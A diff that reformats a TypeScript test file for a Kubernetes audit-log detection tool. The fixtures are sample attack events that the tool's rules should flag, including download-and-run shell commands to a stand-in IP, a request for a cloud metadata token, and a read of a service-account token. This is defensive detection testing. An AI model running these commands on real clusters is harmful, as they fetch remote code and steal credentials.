@@ -52,7 +52,14 @@ const deploymentWith = (spec: Record<string, unknown>) => ({ kind: 'Deployment',
 /** An exec (or attach) as kubectl sends it: one command= per argument, options as query parameters. */
 function execEv(argv: string[], o: { tty?: boolean; stdin?: boolean; container?: string; sub?: string; code?: number; username?: string; verb?: string } = {}): AuditEvent {
   const sub = o.sub ?? 'exec';
-  const q = [...argv.map((a) => `command=${encodeURIComponent(a).replace(/%20/g, '+')}`), `container=${o.container ?? 'api'}`, ...(o.stdin ? ['stdin=true'] : []), 'stdout=true', 'stderr=true', ...(o.tty ? ['tty=true'] : [])];
+  const q = [
+    ...argv.map((a) => `command=${encodeURIComponent(a).replace(/%20/g, '+')}`),
+    `container=${o.container ?? 'api'}`,
+    ...(o.stdin ? ['stdin=true'] : []),
+    'stdout=true',
+    'stderr=true',
+    ...(o.tty ? ['tty=true'] : []),
+  ];
   return ev({
     verb: o.verb ?? 'create',
     requestURI: `/api/v1/namespaces/prod/pods/api-1/${sub}?${q.join('&')}`,
@@ -64,7 +71,12 @@ function execEv(argv: string[], o: { tty?: boolean; stdin?: boolean; container?:
 const rbacWrite = (resource: string, body: unknown, over: Partial<Parameters<typeof ev>[0]> = {}) => workload(resource, 'rbac.authorization.k8s.io', body, over);
 const container = (extra: Record<string, unknown>) => podSpec({ containers: [{ name: 'c', image: 'busybox', ...extra }] });
 const debugPatch = (c: Record<string, unknown>, over: Partial<Parameters<typeof ev>[0]> = {}) =>
-  ev({ verb: 'patch', objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1', subresource: 'ephemeralcontainers' }, requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x1', image: 'busybox', ...c }] } }, ...over });
+  ev({
+    verb: 'patch',
+    objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1', subresource: 'ephemeralcontainers' },
+    requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x1', image: 'busybox', ...c }] } },
+    ...over,
+  });
 
 /**
  * Every built-in rule, both ways: `fires` must earn the rule's label, `quiet` (near misses:
@@ -115,7 +127,10 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     ],
   },
   'secret-read-denied': {
-    fires: () => [ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' }, code: 403 }), ev({ verb: 'list', objectRef: { resource: 'secrets' }, code: 403 })],
+    fires: () => [
+      ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' }, code: 403 }),
+      ev({ verb: 'list', objectRef: { resource: 'secrets' }, code: 403 }),
+    ],
     quiet: () => [
       ev({ verb: 'get', objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'x' }, code: 404 }),
       ev({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'kube-system', name: 'x' }, code: 403 }),
@@ -127,7 +142,14 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [ev({ verb: 'get', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'log' } })],
   },
   'pod-portforward': {
-    fires: () => [ev({ verb: 'get', requestURI: '/api/v1/namespaces/p/pods/a/portforward?ports=5432', objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'portforward' }, code: 101 })],
+    fires: () => [
+      ev({
+        verb: 'get',
+        requestURI: '/api/v1/namespaces/p/pods/a/portforward?ports=5432',
+        objectRef: { resource: 'pods', namespace: 'p', name: 'a', subresource: 'portforward' },
+        code: 101,
+      }),
+    ],
     quiet: () => [execEv(['id'])],
   },
   'pod-ephemeral-container': {
@@ -135,7 +157,9 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [ev({ verb: 'patch', objectRef: { resource: 'pods', namespace: 'prod', name: 'api-1' }, requestObject: { metadata: { labels: { a: 'b' } } } })],
   },
   'node-proxy': {
-    fires: () => [ev({ verb: 'create', requestURI: '/api/v1/nodes/aks-n1/proxy/run/prod/api-1/api?cmd=id', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'proxy' } })],
+    fires: () => [
+      ev({ verb: 'create', requestURI: '/api/v1/nodes/aks-n1/proxy/run/prod/api-1/api?cmd=id', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'proxy' } }),
+    ],
     quiet: () => [
       ev({ verb: 'get', requestURI: '/api/v1/nodes/aks-n1/status', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'status' } }),
       ev({ verb: 'get', requestURI: '/api/v1/nodes/aks-n1/proxy/metrics/cadvisor', objectRef: { resource: 'nodes', name: 'aks-n1', subresource: 'proxy' } }),
@@ -155,7 +179,9 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [execEv(['cat', '/etc/kubernetes-release']), execEv(['cat', '/etc/hostname'])],
   },
   'exec-instance-metadata': {
-    fires: () => [execEv(['curl', '-s', '-H', 'Metadata:true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'])],
+    fires: () => [
+      execEv(['curl', '-s', '-H', 'Metadata:true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/']),
+    ],
     quiet: () => [execEv(['curl', '-s', 'http://169.254.20.10:53']), execEv(['curl', 'http://10.0.0.4/healthz'])],
   },
   'exec-copy-into-container': {
@@ -167,10 +193,7 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [execEv(['tar', 'czf', '/tmp/backup.tgz', '/data']), execEv(['tar', '-xmf', '-'], { stdin: true })],
   },
   'exec-download-and-run': {
-    fires: () => [
-      execEv(['sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh']),
-      execEv(['sh', '-c', 'wget -q -O /tmp/k http://198.51.100.7/k && chmod +x /tmp/k && /tmp/k']),
-    ],
+    fires: () => [execEv(['sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh']), execEv(['sh', '-c', 'wget -q -O /tmp/k http://198.51.100.7/k && chmod +x /tmp/k && /tmp/k'])],
     quiet: () => [execEv(['sh', '-c', 'curl -s http://localhost:8080/healthz | grep ok']), execEv(['curl', '-o', '/tmp/x', 'http://x/y'])],
   },
   'pod-privileged': {
@@ -182,7 +205,9 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     ],
     quiet: () => [
       workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: false } }] })),
-      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] }), { username: 'system:serviceaccount:kube-system:daemon-set-controller' }),
+      workload('pods', undefined, podSpec({ containers: [{ name: 'c', securityContext: { privileged: true } }] }), {
+        username: 'system:serviceaccount:kube-system:daemon-set-controller',
+      }),
       workload('daemonsets', 'apps', [{ op: 'remove', path: '/spec/template/spec/containers/0/securityContext/privileged' }], { verb: 'patch', code: 200 }),
     ],
     expectMatched: { 'requestObject.spec.containers[0].securityContext.privileged': true },
@@ -192,15 +217,27 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [workload('pods', undefined, podSpec({ hostNetwork: false }))],
   },
   'pod-hostpath': {
-    fires: () => [workload('pods', undefined, podSpec({ volumes: [{ name: 'h', hostPath: { path: '/' } }] })), workload('replicationcontrollers', undefined, deploymentWith({ volumes: [{ name: 'h', hostPath: { path: '/var/run/docker.sock' } }] }))],
-    quiet: () => [workload('pods', undefined, podSpec({ volumes: [{ name: 'e', emptyDir: {} }] })), workload('persistentvolumes', undefined, { spec: { hostPath: { path: '/data' } } })],
+    fires: () => [
+      workload('pods', undefined, podSpec({ volumes: [{ name: 'h', hostPath: { path: '/' } }] })),
+      workload('replicationcontrollers', undefined, deploymentWith({ volumes: [{ name: 'h', hostPath: { path: '/var/run/docker.sock' } }] })),
+    ],
+    quiet: () => [
+      workload('pods', undefined, podSpec({ volumes: [{ name: 'e', emptyDir: {} }] })),
+      workload('persistentvolumes', undefined, { spec: { hostPath: { path: '/data' } } }),
+    ],
   },
   'pod-dangerous-capabilities': {
-    fires: () => [workload('pods', undefined, container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'SYS_ADMIN'] } } })), workload('statefulsets', 'apps', deploymentWith({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['cap_sys_ptrace'] } } }] }))],
+    fires: () => [
+      workload('pods', undefined, container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'SYS_ADMIN'] } } })),
+      workload('statefulsets', 'apps', deploymentWith({ containers: [{ name: 'c', securityContext: { capabilities: { add: ['cap_sys_ptrace'] } } }] })),
+    ],
     quiet: () => [workload('pods', undefined, container({ securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }))],
   },
   'pod-run-as-root': {
-    fires: () => [workload('pods', undefined, podSpec({ securityContext: { runAsUser: 0 } })), workload('jobs', 'batch', deploymentWith({ containers: [{ name: 'c', securityContext: { runAsNonRoot: false } }] }))],
+    fires: () => [
+      workload('pods', undefined, podSpec({ securityContext: { runAsUser: 0 } })),
+      workload('jobs', 'batch', deploymentWith({ containers: [{ name: 'c', securityContext: { runAsNonRoot: false } }] })),
+    ],
     quiet: () => [workload('pods', undefined, podSpec({ securityContext: { runAsUser: 1000, runAsGroup: 0, runAsNonRoot: true } }))],
   },
   'pod-allow-privilege-escalation': {
@@ -209,23 +246,37 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
   },
   'workload-download-and-run': {
     fires: () => [
-      workload('cronjobs', 'batch', { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'r', command: ['/bin/sh', '-c'], args: ['curl -s http://198.51.100.7/x.sh | sh'] }] } } } } } }),
+      workload('cronjobs', 'batch', {
+        kind: 'CronJob',
+        spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'r', command: ['/bin/sh', '-c'], args: ['curl -s http://198.51.100.7/x.sh | sh'] }] } } } } },
+      }),
       workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'wget -qO- http://x/y|bash'] }] })),
     ],
     quiet: () => [workload('pods', undefined, podSpec({ containers: [{ name: 'c', command: ['sh', '-c', 'curl -o /tmp/x http://x/y'] }] }))],
   },
   'cronjob-created': {
     fires: () => [workload('cronjobs', 'batch', { kind: 'CronJob' })],
-    quiet: () => [workload('cronjobs', 'batch', { kind: 'CronJob' }, { verb: 'update' }), workload('jobs', 'batch', { kind: 'Job' }), workload('cronjobs', 'batch', { kind: 'CronJob' }, { code: 403 })],
+    quiet: () => [
+      workload('cronjobs', 'batch', { kind: 'CronJob' }, { verb: 'update' }),
+      workload('jobs', 'batch', { kind: 'Job' }),
+      workload('cronjobs', 'batch', { kind: 'CronJob' }, { code: 403 }),
+    ],
   },
   'rbac-binding-powerful-role': {
     fires: () => [
       rbacWrite('clusterrolebindings', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] }),
-      rbacWrite('rolebindings', { roleRef: { kind: 'ClusterRole', name: 'system:controller:daemon-set-controller' }, subjects: [{ kind: 'ServiceAccount', name: 'x', namespace: 'prod' }] }),
+      rbacWrite('rolebindings', {
+        roleRef: { kind: 'ClusterRole', name: 'system:controller:daemon-set-controller' },
+        subjects: [{ kind: 'ServiceAccount', name: 'x', namespace: 'prod' }],
+      }),
     ],
     quiet: () => [
       rbacWrite('rolebindings', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'eve' }] }),
-      rbacWrite('clusterrolebindings', { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] }, { username: 'system:apiserver' }),
+      rbacWrite(
+        'clusterrolebindings',
+        { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] },
+        { username: 'system:apiserver' },
+      ),
     ],
     expectMatched: { 'requestObject.roleRef.name': 'cluster-admin' },
   },
@@ -238,7 +289,10 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
   },
   'rbac-binding-system-masters': {
     fires: () => [rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'system:masters' }] })],
-    quiet: () => [rbacWrite('clusterrolebindings', { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] }, { username: 'system:apiserver' }), rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'masters' }] })],
+    quiet: () => [
+      rbacWrite('clusterrolebindings', { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'system:masters' }] }, { username: 'system:apiserver' }),
+      rbacWrite('clusterrolebindings', { roleRef: { name: 'view' }, subjects: [{ kind: 'Group', name: 'masters' }] }),
+    ],
   },
   'rbac-role-wildcard': {
     fires: () => [rbacWrite('clusterroles', { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }] })],
@@ -248,19 +302,36 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     ],
   },
   'rbac-role-escalation-verbs': {
-    fires: () => [rbacWrite('clusterroles', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate', 'bind'] }] }), rbacWrite('roles', { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] })],
+    fires: () => [
+      rbacWrite('clusterroles', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate', 'bind'] }] }),
+      rbacWrite('roles', { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] }),
+    ],
     quiet: () => [
       rbacWrite('clusterroles', { rules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['get', 'list'] }] }),
-      rbacWrite('clusterroles', { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] }, { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' }),
+      rbacWrite(
+        'clusterroles',
+        { rules: [{ apiGroups: [''], resources: ['serviceaccounts'], verbs: ['impersonate'] }] },
+        { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' },
+      ),
     ],
   },
   'rbac-binding-wildcard-role': {
     fires: () => [
-      workload('roles', 'rbac.authorization.k8s.io', { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] }, { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } }),
+      workload(
+        'roles',
+        'rbac.authorization.k8s.io',
+        { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] },
+        { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } },
+      ),
       workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' }, subjects: [{ kind: 'User', name: 'eve' }] }, { at: 60 }),
     ],
     quiet: () => [
-      workload('roles', 'rbac.authorization.k8s.io', { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] }, { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } }),
+      workload(
+        'roles',
+        'rbac.authorization.k8s.io',
+        { metadata: { name: 'god' }, rules: [{ resources: ['*'], verbs: ['get'] }] },
+        { objectRef: { resource: 'roles', apiGroup: 'rbac.authorization.k8s.io', namespace: 'default', name: 'god' } },
+      ),
       workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'other' } }, { at: 60 }),
       // bound more than a day later: outside the window
       workload('rolebindings', 'rbac.authorization.k8s.io', { roleRef: { kind: 'Role', name: 'god' } }, { at: 90_000 }),
@@ -286,38 +357,73 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     ],
   },
   'secret-long-lived-token': {
-    fires: () => [workload('secrets', undefined, { kind: 'Secret', type: 'kubernetes.io/service-account-token', metadata: { name: 't', annotations: { 'kubernetes.io/service-account.name': 'default' } } })],
+    fires: () => [
+      workload('secrets', undefined, {
+        kind: 'Secret',
+        type: 'kubernetes.io/service-account-token',
+        metadata: { name: 't', annotations: { 'kubernetes.io/service-account.name': 'default' } },
+      }),
+    ],
     quiet: () => [workload('secrets', undefined, { kind: 'Secret', type: 'Opaque', metadata: { name: 't' }, data: { k: 'dg==' } })],
   },
   'csr-created': {
-    fires: () => [ev({ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve' }, requestObject: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } }, code: 201 })],
+    fires: () => [
+      ev({
+        verb: 'create',
+        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve' },
+        requestObject: { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
+        code: 201,
+      }),
+    ],
     quiet: () => [
-      ev({ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x' }, username: 'system:bootstrap:abcdef', code: 201 }),
+      ev({
+        verb: 'create',
+        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x' },
+        username: 'system:bootstrap:abcdef',
+        code: 201,
+      }),
       ev({ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'csr-y' }, username: 'system:node:aks-1', code: 201 }),
     ],
   },
   'csr-approved': {
     fires: () => [ev({ verb: 'update', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve', subresource: 'approval' } })],
     quiet: () => [
-      ev({ verb: 'update', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x', subresource: 'approval' }, username: 'system:serviceaccount:kube-system:certificate-controller' }),
+      ev({
+        verb: 'update',
+        objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'node-csr-x', subresource: 'approval' },
+        username: 'system:serviceaccount:kube-system:certificate-controller',
+      }),
       ev({ verb: 'get', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', name: 'eve' } }),
     ],
   },
   'webhook-written': {
     fires: () => [ev({ verb: 'create', objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'inject' }, code: 201 })],
     quiet: () => [
-      ev({ verb: 'patch', objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'aks-webhook-admission-controller' }, username: 'aksService' }),
+      ev({
+        verb: 'patch',
+        objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'aks-webhook-admission-controller' },
+        username: 'aksService',
+      }),
       ev({ verb: 'list', objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io' } }),
     ],
   },
   'webhook-deleted': {
-    fires: () => [ev({ verb: 'delete', objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'gatekeeper-validating-webhook-configuration' } })],
+    fires: () => [
+      ev({
+        verb: 'delete',
+        objectRef: { resource: 'validatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'gatekeeper-validating-webhook-configuration' },
+      }),
+    ],
     quiet: () => [ev({ verb: 'delete', objectRef: { resource: 'configmaps', namespace: 'gatekeeper-system', name: 'x' } })],
   },
   'crd-changed': {
     fires: () => [ev({ verb: 'create', objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'backdoors.example.com' }, code: 201 })],
     quiet: () => [
-      ev({ verb: 'update', objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'x.example.com', subresource: 'status' }, username: 'system:apiserver' }),
+      ev({
+        verb: 'update',
+        objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'x.example.com', subresource: 'status' },
+        username: 'system:apiserver',
+      }),
       ev({ verb: 'update', objectRef: { resource: 'customresourcedefinitions', apiGroup: 'apiextensions.k8s.io', name: 'x.example.com', subresource: 'status' } }),
     ],
   },
@@ -326,7 +432,9 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     quiet: () => [ev({ verb: 'update', objectRef: { resource: 'apiservices', apiGroup: 'apiregistration.k8s.io', name: 'v1.apps' }, username: 'system:apiserver' })],
   },
   'permission-enumeration': {
-    fires: () => [ev({ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, username: 'system:serviceaccount:prod:api', code: 201 })],
+    fires: () => [
+      ev({ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, username: 'system:serviceaccount:prod:api', code: 201 }),
+    ],
     quiet: () => [
       ev({ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, code: 201 }),
       ev({ verb: 'create', objectRef: { resource: 'selfsubjectaccessreviews', apiGroup: 'authorization.k8s.io' }, username: 'system:serviceaccount:prod:api', code: 201 }),
@@ -357,7 +465,10 @@ const cases: Record<string, { fires: () => AuditEvent[]; quiet: () => AuditEvent
     ],
   },
   'event-deletion': {
-    fires: () => [ev({ verb: 'deletecollection', objectRef: { resource: 'events', namespace: 'default' } }), ev({ verb: 'delete', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', namespace: 'd', name: 'e' } })],
+    fires: () => [
+      ev({ verb: 'deletecollection', objectRef: { resource: 'events', namespace: 'default' } }),
+      ev({ verb: 'delete', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', namespace: 'd', name: 'e' } }),
+    ],
     quiet: () => [ev({ verb: 'list', objectRef: { resource: 'events', namespace: 'default' } })],
   },
   'cleanup-delete-own-creation': {
@@ -431,7 +542,9 @@ describe('built-in rules', () => {
 
   it('carries what an exec ran: command, container, tty and stdin', () => {
     const labeler = createAuditLabeler(builtIn);
-    const [label] = labeler.push(execEv(['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], { container: 'web', stdin: true })).filter((l) => l.ruleId === 'exec-read-service-account-token');
+    const [label] = labeler
+      .push(execEv(['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], { container: 'web', stdin: true }))
+      .filter((l) => l.ruleId === 'exec-read-service-account-token');
     expect(label!.exec).toEqual({
       kind: 'exec',
       namespace: 'prod',
@@ -447,7 +560,10 @@ describe('built-in rules', () => {
   });
 
   it('labels one burst once, with the count, the group and the events', () => {
-    const labels = labelsOf('auth-failure-burst', Array.from({ length: 12 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })));
+    const labels = labelsOf(
+      'auth-failure-burst',
+      Array.from({ length: 12 }, (_, i) => ev({ at: i, code: 403, username: 'system:anonymous', sourceIPs: ['198.51.100.7'] })),
+    );
     expect(labels).toHaveLength(1);
     expect(labels[0]!.matched).toMatchObject({ count: 10, threshold: 10, windowSeconds: 60, 'groupBy.sourceIPs[0]': '198.51.100.7', 'groupBy.user.username': 'system:anonymous' });
     expect((labels[0]!.matched.auditIDs as string[]).length).toBe(10);
@@ -513,10 +629,19 @@ describe('rule files', () => {
     ['- id: r1\n  title: t\n  severity: urgent\n  description: d\n  match: { verbs: [get] }\n', /bad\.yaml: rule "r1" at severity/],
     ['- id: r2\n  title: t\n  severity: low\n  description: d\n  match: { verbz: [get] }\n', /bad\.yaml: rule "r2" at match: .*verbz/],
     ['- id: r3\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: "a..b", equals: 1 }] }\n', /bad\.yaml: rule "r3" at match\.all\.0\.path: "a\.\.b"/],
-    ['- id: r4\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: a, equals: 1, exists: true }] }\n', /rule "r4" at match\.all\.0: a predicate needs exactly one/],
-    ['- id: r5\n  kind: threshold\n  title: t\n  severity: low\n  description: d\n  match: {}\n  groupBy: [user.username]\n  threshold: 1\n  windowSeconds: 60\n', /rule "r5" at threshold/],
+    [
+      '- id: r4\n  title: t\n  severity: low\n  description: d\n  match: { all: [{ path: a, equals: 1, exists: true }] }\n',
+      /rule "r4" at match\.all\.0: a predicate needs exactly one/,
+    ],
+    [
+      '- id: r5\n  kind: threshold\n  title: t\n  severity: low\n  description: d\n  match: {}\n  groupBy: [user.username]\n  threshold: 1\n  windowSeconds: 60\n',
+      /rule "r5" at threshold/,
+    ],
     ['- id: r6\n  title: t\n  severity: low\n  description: d\n  match: { sourceIpNotIn: [10.0.0.0/40] }\n', /rule "r6" at match\.sourceIpNotIn\.0: use a CIDR/],
-    ['- id: r7\n  title: t\n  severity: low\n  description: d\n  match: { any: [{ path: a, matches: "([" }] }\n', /rule "r7" at match\.any\.0\.matches: not a valid regular expression/],
+    [
+      '- id: r7\n  title: t\n  severity: low\n  description: d\n  match: { any: [{ path: a, matches: "([" }] }\n',
+      /rule "r7" at match\.any\.0\.matches: not a valid regular expression/,
+    ],
     ['rules: {}\n', /bad\.yaml: expected a list of rules/],
     ['- id: r8\n  title: [unclosed\n', /bad\.yaml: not valid YAML/],
   ])('a broken rule file is refused with a message naming the file and the rule (%#)', async (text, message) => {
@@ -533,7 +658,10 @@ describe('rule files', () => {
   });
 
   it('parses several YAML documents in one file', () => {
-    const rules = parseRulesYaml('- { id: a, title: t, severity: low, description: d, match: { verbs: [get] } }\n---\nrules:\n  - { id: b, title: t, severity: info, description: d, match: { verbs: [list] } }\n', 'x.yaml');
+    const rules = parseRulesYaml(
+      '- { id: a, title: t, severity: low, description: d, match: { verbs: [get] } }\n---\nrules:\n  - { id: b, title: t, severity: info, description: d, match: { verbs: [list] } }\n',
+      'x.yaml',
+    );
     expect(rules.map((r) => `${r.id}:${r.kind}:${r.file}`)).toEqual(['a:match:x.yaml', 'b:match:x.yaml']);
   });
 });
